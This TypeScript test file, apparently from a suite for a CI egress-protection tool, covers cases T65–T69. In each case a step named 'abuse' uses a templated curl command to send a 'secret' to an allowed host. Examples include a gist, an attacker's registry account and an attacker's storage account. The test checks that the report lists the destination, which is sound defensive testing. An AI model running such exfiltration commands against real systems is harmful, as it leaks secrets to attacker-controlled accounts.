// T65 to T69: what an allowed destination can be used for. No rule about destinations prevents it; the report shows it.
import type { Case } from "../case.ts";
import { requested } from "../harm.ts";
import type { Stage } from "../stage.ts";

const AT = "11.3.0.30";
const WHY = "The destination is allowed. The report lists who used it, and how often.";

/** Sends something to an allowed host. The report must list the host; if it does not, that is an error and no outcome. */
function shown(host: string, method: string, path: string) {
  return async (stage: Stage) => {
    const world = await stage.world();
    await world.internet.addNames({ [host]: { a: [AT] } });
    await stage.protect(world, { "allowed-endpoints": `${host}:443` });
    await world.job.step("abuse", `curl -sk -m 5 -X ${method} --data secret https://${host}${path}`);
    if (!(await requested(path)(world))) throw new Error(`${host} is allowed and was not reached`);
    const { report } = await stage.finish(world);
    const listed = report.destinations.some(({ destination, step }) => destination === host && step === "abuse");
    if (!listed) throw new Error(`the report does not list ${host} under its step`);
    return "undetected" as const;
  };
}

export const ABUSE_CASES: readonly Case[] = [
  {
    id: "T65",
    title: "A push to a gist or to another repository with a foreign token",
    outcome: "out-of-scope",
    why: WHY,
    run: shown("api.github.com", "POST", "/gists"),
  },
  {
    id: "T66",
    title: "A package published to a registry under an attacker's account",
    outcome: "out-of-scope",
    why: WHY,
    run: shown("packages.example.test", "PUT", "/stolen"),
  },
  {
    id: "T67",
    title: "An upload to a storage account of the attacker's, where all accounts are allowed",
    outcome: "out-of-scope",
    why: `${WHY} The preset \`github\` names accounts and no whole service.`,
    run: shown("attacker.storage.example.test", "PUT", "/container/blob"),
  },
  {
    id: "T68",
    title: "Data in artifacts and caches of the job itself",
    outcome: "out-of-scope",
    why: WHY,
    run: shown("results.example.test", "PUT", "/artifact"),
  },
  {
    id: "T69",
    title: "Data to a GitHub App or a webhook behind an allowed host",
    outcome: "out-of-scope",
    why: WHY,
    run: shown("uploads.github.com", "POST", "/hook"),
  },
];
